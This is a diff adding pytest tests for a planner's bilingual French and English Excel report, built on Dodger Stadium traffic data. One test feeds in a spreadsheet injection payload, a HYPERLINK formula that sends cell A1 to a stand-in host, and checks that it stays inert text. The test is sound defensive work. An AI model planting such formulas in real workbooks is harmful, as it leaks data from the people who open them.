@@ -1,0 +1,196 @@
+"""Tests of report.xlsx: the plan's tables as a workbook in the report's language."""
+
+from __future__ import annotations
+
+import csv
+
+import openpyxl
+import pytest
+
+from planner.decisions.plan import WeeklyPlan, plan_week
+from planner.inputs import load_dataset, parse_week
+from planner.reporting import write_report, xlsx
+from planner.reporting.i18n import render_message, translate_value, translations
+from planner.reporting.tables import (
+    CAPACITY_COLUMNS,
+    EVENT_COLUMNS,
+    FORECAST_COLUMNS,
+    QUALITY_COLUMNS,
+    STAFFING_COLUMNS,
+    quality_table,
+)
+from tests.conftest import BUNDLED_DATA
+
+MACHINE_COLUMNS = {*FORECAST_COLUMNS, *EVENT_COLUMNS, *CAPACITY_COLUMNS, *STAFFING_COLUMNS, *QUALITY_COLUMNS}
+
+
+@pytest.fixture(scope="module")
+def dodgers_plan() -> WeeklyPlan:
+    # Real data: the Dodger Stadium freeway ramp, a week with three home games learned from 72 past ones.
+    dataset = load_dataset(BUNDLED_DATA / "dodgers")
+    return plan_week(dataset, parse_week("2005-W38", dataset.timezone))
+
+
+@pytest.fixture(scope="module")
+def dodgers_sheets(dodgers_plan, tmp_path_factory) -> dict[str, dict[str, list[dict[str, object]]]]:
+    """Return each workbook of the plan, French and English, as sheet name to rows keyed by header."""
+    folder = tmp_path_factory.mktemp("xlsx")
+    sheets = {}
+    for lang in ("fr", "en"):
+        path = folder / f"report-{lang}.xlsx"
+        xlsx.write_xlsx(dodgers_plan, path, lang=lang)
+        sheets[lang] = _read_workbook(path)
+    return sheets
+
+
+def _read_workbook(path) -> dict[str, list[dict[str, object]]]:
+    workbook = openpyxl.load_workbook(path, read_only=True)
+    sheets = {}
+    for sheet in workbook.worksheets:
+        rows = list(sheet.iter_rows(values_only=True))
+        sheets[sheet.title] = [dict(zip(rows[0], row)) for row in rows[1:]]
+    return sheets
+
+
+def test_xlsx_french_sheet_names_and_headers(dodgers_plan, tmp_path):
+    xlsx.write_xlsx(dodgers_plan, tmp_path / "report.xlsx", lang="fr")
+    workbook = openpyxl.load_workbook(tmp_path / "report.xlsx", read_only=True)
+    headers = [header for sheet in workbook.worksheets for header in next(sheet.iter_rows(values_only=True))]
+
+    assert workbook.sheetnames == ["Prévision", "Événements", "Capacité", "Effectifs", "Modèle de calcul des effectifs",
+                                   "Effectifs par intervalle", "Actions par événement", "Canaux voix",
+                                   "Qualité des données"]
+    assert "Identifiant de l’événement" in headers
+    assert "Appris sur" in headers
+    assert "Objectif de niveau de service" in headers
+    # Every column has a French header, and none is a machine name of the CSV files.
+    assert sorted(set(headers) & MACHINE_COLUMNS) == []
+
+
+def test_xlsx_french_learned_from_and_categories(dodgers_sheets):
+    events = dodgers_sheets["fr"]["Événements"]
+    staffing = dodgers_sheets["fr"]["Effectifs"]
+    capacity = dodgers_sheets["fr"]["Capacité"]
+
+    assert len(events) == 3
+    assert {row["Appris sur"] for row in events} == {"72 événements : dodgers-2005-04-12 ... dodgers-2005-09-14"}
+    assert {row["Événements passés retenus"] for row in events} == {"même lieu"}
+    assert {row["Mesure"] for row in events} == {"Voitures entrant sur l’autoroute"}
+    assert {row["Rôle"] for row in staffing} == {"ingénieur de supervision", "conseiller clientèle"}
+    assert {row["Action"] for row in capacity} <= {"ok", "à surveiller", "à renforcer"}
+    assert "à surveiller" in {row["Action"] for row in capacity}
+
+
+def test_xlsx_french_data_quality_notes(dodgers_plan, dodgers_sheets):
+    quality = dodgers_sheets["fr"]["Qualité des données"]
+    traffic = next(row for row in quality if row["Table"] == "trafic")
+    traffic_notes = next(table.notes for table in dodgers_plan.dataset.quality.tables if table.table == "traffic")
+
+    assert len(traffic_notes) >= 3
+    assert traffic["Notes"] == "; ".join(render_message(note, "fr") for note in traffic_notes)
+    assert "cars : 2\u202f903 valeurs manquantes sur 50\u202f400 (champs vides)" in traffic["Notes"]
+    assert "values missing" not in traffic["Notes"]
+
+
+def test_xlsx_english_on_request(dodgers_plan, dodgers_sheets):
+    sheets = dodgers_sheets["en"]
+    traffic = next(row for row in sheets["Data quality"] if row["Table"] == "traffic")
+
+    assert list(sheets) == ["Forecast", "Events", "Capacity", "Staffing", "Staffing model", "Staffing intervals",
+                            "Event actions", "Voice channels", "Data quality"]
+    assert {row["Learned from"] for row in sheets["Events"]} == {
+        "72 events: dodgers-2005-04-12 ... dodgers-2005-09-14"}
+    assert {row["Past events used"] for row in sheets["Events"]} == {"same venue"}
+    assert {row["Role"] for row in sheets["Staffing"]} == {"supervision engineer", "customer care agent"}
+    assert "cars: 2,903 of 50,400 values missing (empty fields)" in traffic["Notes"]
+    assert "valeurs manquantes" not in traffic["Notes"]
+
+
+def test_xlsx_numbers_same_in_both_languages(dodgers_sheets):
+    french = dodgers_sheets["fr"]["Prévision"]
+    english = dodgers_sheets["en"]["Forecast"]
+
+    assert len(french) == len(english) == 168
+    assert [row["Prévision p90"] for row in french] == [row["Forecast p90"] for row in english]
+    assert [row["Heure (ISO 8601)"] for row in french] == [row["Hour (ISO 8601)"] for row in english]
+    assert french[0]["Heure (ISO 8601)"] == "2005-09-19T00:00:00-07:00"
+
+
+def test_xlsx_rows_match_csv(make_plan, tmp_path):
+    # Synthetic plan of tests/reporting/conftest.py: cell C1 gets an "add" action.
+    folder = write_report(make_plan(), tmp_path, lang="en", with_pdf=False)
+    workbook = openpyxl.load_workbook(folder / "report.xlsx", read_only=True)
+    gettext = translations("en").gettext
+
+    for sheet_name in ["forecast", "events", "capacity", "staffing"]:
+        with (folder / f"{sheet_name}.csv").open(encoding="utf-8", newline="") as handle:
+            csv_rows = list(csv.reader(handle))
+        sheet_rows = [["" if value is None else value for value in row]
+                      for row in workbook[xlsx.sheet_title(sheet_name, "en")].iter_rows(values_only=True)]
+
+        assert sheet_rows[0] == [gettext(xlsx.COLUMN_HEADERS[column]) for column in csv_rows[0]], sheet_name
+        assert len(sheet_rows) == len(csv_rows), sheet_name
+        # Numbers are numbers in the workbook and text in the CSV file; both give the same value.
+        for sheet_row, csv_row in zip(sheet_rows[1:], csv_rows[1:]):
+            for column, sheet_value, csv_value in zip(csv_rows[0], sheet_row, csv_row):
+                if isinstance(sheet_value, (int, float)) and not isinstance(sheet_value, bool):
+                    assert sheet_value == pytest.approx(float(csv_value)), (sheet_name, column)
+                elif column == "measure":
+                    assert (csv_value, sheet_value) == ("traffic", "Data traffic"), sheet_name
+                elif column in {"action", "role", "shift", "kind", "pooling"}:
+                    category = "event_kind" if column == "kind" else column
+                    assert sheet_value == translate_value(category, csv_value, "en"), (sheet_name, column)
+                else:
+                    assert str(sheet_value) == csv_value, (sheet_name, column)
+
+
+def test_xlsx_french_actions_from_synthetic_plan(make_plan, tmp_path):
+    folder = write_report(make_plan(), tmp_path, lang="fr", with_pdf=False)
+    capacity = _read_workbook(folder / "report.xlsx")["Capacité"]
+
+    assert {row["Action"] for row in capacity} == {"à renforcer", "à surveiller", "ok"}
+    assert {row["Unité supplémentaire"] for row in capacity} == {"temporary carrier"}
+
+
+def test_xlsx_formula_stays_text(make_plan, tmp_path):
+    name = '=HYPERLINK("http://example.invalid/?"&A1,"Click")'
+    folder = write_report(make_plan(event_name=name), tmp_path, lang="en", with_pdf=False)
+    events = openpyxl.load_workbook(folder / "report.xlsx")["Events"]
+    name_column = [cell.value for cell in events[1]].index("Event") + 1
+    cell = events.cell(row=2, column=name_column)
+
+    assert cell.value == name
+    assert cell.data_type == "s"
+
+
+def test_xlsx_notes_sheet_in_french(dodgers_plan, tmp_path, monkeypatch):
+    # The week has 168 forecast rows, so a lower limit makes the workbook drop rows and add a note.
+    monkeypatch.setattr(xlsx, "MAX_SHEET_ROWS", 100)
+    xlsx.write_xlsx(dodgers_plan, tmp_path / "report.xlsx", lang="fr")
+    notes = _read_workbook(tmp_path / "report.xlsx")["Notes"]
+
+    assert [row["Note"] for row in notes] == [
+        "Prévision : 0 ligne sur 168, les cellules à risque, les plus exposées d’abord ; "
+        "forecast.csv contient toutes les lignes",
+        "Effectifs par intervalle : 100 lignes sur 672, les premières"]
+
+
+def test_quality_table_renders_notes(dodgers_plan):
+    english = quality_table(dodgers_plan)
+    french = quality_table(dodgers_plan, render_note=lambda note: render_message(note, "fr"))
+
+    assert list(english["table"]) == list(french["table"])
+    assert "values missing" in english["notes"].iloc[0]
+    assert "valeurs manquantes" in french["notes"].iloc[0]
+
+
+def test_csv_same_in_both_languages(dodgers_plan, tmp_path):
+    french = write_report(dodgers_plan, tmp_path / "fr", lang="fr", with_pdf=False)
+    english = write_report(dodgers_plan, tmp_path / "en", lang="en", with_pdf=False)
+
+    for name in ("forecast.csv", "events.csv", "capacity.csv", "staffing.csv"):
+        assert (french / name).read_bytes() == (english / name).read_bytes(), name
+    with (french / "events.csv").open(encoding="utf-8", newline="") as handle:
+        events = list(csv.DictReader(handle))
+    assert {row["learned_from"] for row in events} == {"72 events: dodgers-2005-04-12 ... dodgers-2005-09-14"}
+    assert {row["pooling"] for row in events} == {"venue"}
